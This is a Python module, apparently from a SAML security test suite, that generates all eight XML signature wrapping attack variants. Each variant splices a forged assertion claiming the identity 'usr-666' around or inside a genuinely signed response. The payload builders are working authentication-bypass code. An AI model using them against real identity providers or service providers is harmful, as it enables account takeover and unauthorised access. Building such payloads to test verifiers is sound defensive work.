"""The eight ways of signature wrapping, and what they are made of.

The names are those of the literature: 1 and 2 wrap a signed response, 3 to 8 a signed assertion.
"""

from collections.abc import Callable

from shape import Shape, around, signature


def parts(xml: str) -> tuple[str, str]:
    """A signed response's assertion with its signature taken out, and that signature."""
    assertion = xml[xml.index("<Assertion") : xml.index("</Assertion>") + len("</Assertion>")]
    return without_signature(assertion)


def without_signature(xml: str) -> tuple[str, str]:
    start, end = xml.index("<ds:Signature "), xml.index("</ds:Signature>") + len("</ds:Signature>")
    return xml[:start] + xml[end:], xml[start:end]


def evil(inner_signature: str = "", assertion_id: str = "_evil") -> Shape:
    """What an attacker would have verified: the administrator's assertion."""
    shape = Shape(signature=inner_signature, id=assertion_id, name_id="usr-666")
    for name in ("mno_uid", "uid"):
        shape.attributes[name] = "usr-666"
    return shape


def wrapped(sign: Callable[[str], str]) -> dict[str, str]:
    signed = sign(Shape().response())
    original, of_assertion = parts(signed)
    whole = original.replace("</Issuer>", "</Issuer>" + of_assertion, 1)
    root = sign(Shape(signature="", root_signature=signature("#_response-1")).response())
    bare_root, of_root = without_signature(root)
    evil_response = around(evil().assertion(), "{}").replace("_response-1", "_evil-response", 1)
    inside = {
        mark: of.replace("</ds:Signature>", f"<ds:Object>{what}</ds:Object></ds:Signature>")
        for mark, of, what in (("root", of_root, bare_root), ("assertion", of_assertion, original))
    }
    in_evil = evil(of_assertion).assertion()
    return {
        "wrapping_1": evil_response.replace("{}", inside["root"]),
        "wrapping_2": evil_response.replace("{}", bare_root + of_root),
        "wrapping_3": around(evil().assertion() + whole),
        "wrapping_4": around(evil().assertion().replace("</Assertion>", whole + "</Assertion>")),
        "wrapping_5": around(in_evil + original),
        "wrapping_6": around(evil(of_assertion.replace("</ds:Signature>", original + "</ds:Signature>")).assertion()),
        "wrapping_7": around(f"<samlp:Extensions>{evil().assertion()}</samlp:Extensions>" + whole),
        "wrapping_8": around(evil(inside["assertion"]).assertion()),
    }
